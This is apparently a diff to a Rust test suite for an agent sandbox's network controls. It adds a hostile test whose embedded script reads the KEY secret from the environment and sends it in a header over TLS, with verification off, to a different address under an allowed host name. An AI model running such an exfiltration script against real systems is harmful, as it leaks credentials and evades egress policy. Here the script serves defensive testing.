@@ -4,7 +4,7 @@ use super::{API, EVIL, Scene, VALUE, World};
 use crate::{Test, bench::expect};
 use agentkernel_testkit::origin::{Certificate, Files, Net, Seen};
 
-pub(super) const fn tests() -> [Test; 7] {
+pub(super) const fn tests() -> [Test; 8] {
     [
         ("hostile/sni-and-host-disagree", disagree),
         ("hostile/name-that-a-rule-denies", denied_name),
@@ -13,6 +13,7 @@ pub(super) const fn tests() -> [Test; 7] {
         ("hostile/redirect-to-a-forbidden-host", redirect),
         ("hostile/secret-asked-to-be-echoed", echo),
         ("hostile/wrong-certificate-upstream", certificates),
+        ("hostile/secret-at-an-address-of-another-name", elsewhere),
     ]
 }
 
@@ -193,4 +194,25 @@ fn certificates(world: &World) -> Result<(), String> {
         expect(server.record().requests().is_empty(), || format!("{name} was sent a request"))?;
     }
     Ok(())
+}
+
+/// Who got hold of a certificate and has an address that may be reached is sent no secret: the name does not lead there.
+fn elsewhere(world: &World) -> Result<(), String> {
+    let other = world.https(&[API])?;
+    // From now on the name leads to this one.
+    let scene = Scene::new(world, &["--allow", API])?;
+    let script = format!(
+        "for request in (get(API), get(API, extra='X-Key: ' + os.environ['KEY'] + '\\r\\n')):
+    answer = tls('{ip}', {port}, API, request, verify=False)
+    assert status(answer) in ('200', 'none'), answer
+assert status(tls(API_IP, API_PORT, API, get(API))) == '200'",
+        ip = other.address().ip(),
+        port = other.address().port(),
+    );
+    scene.attack(&script)?;
+    scene.api_saw(1)?;
+    let seen = other.record().requests();
+    let has = |seen: &&Seen| seen.headers.iter().any(|(_, value)| value.contains(VALUE));
+    let astray = seen.iter().find(has);
+    expect(!seen.is_empty() && astray.is_none(), || format!("{astray:?} of {}", seen.len()))
 }
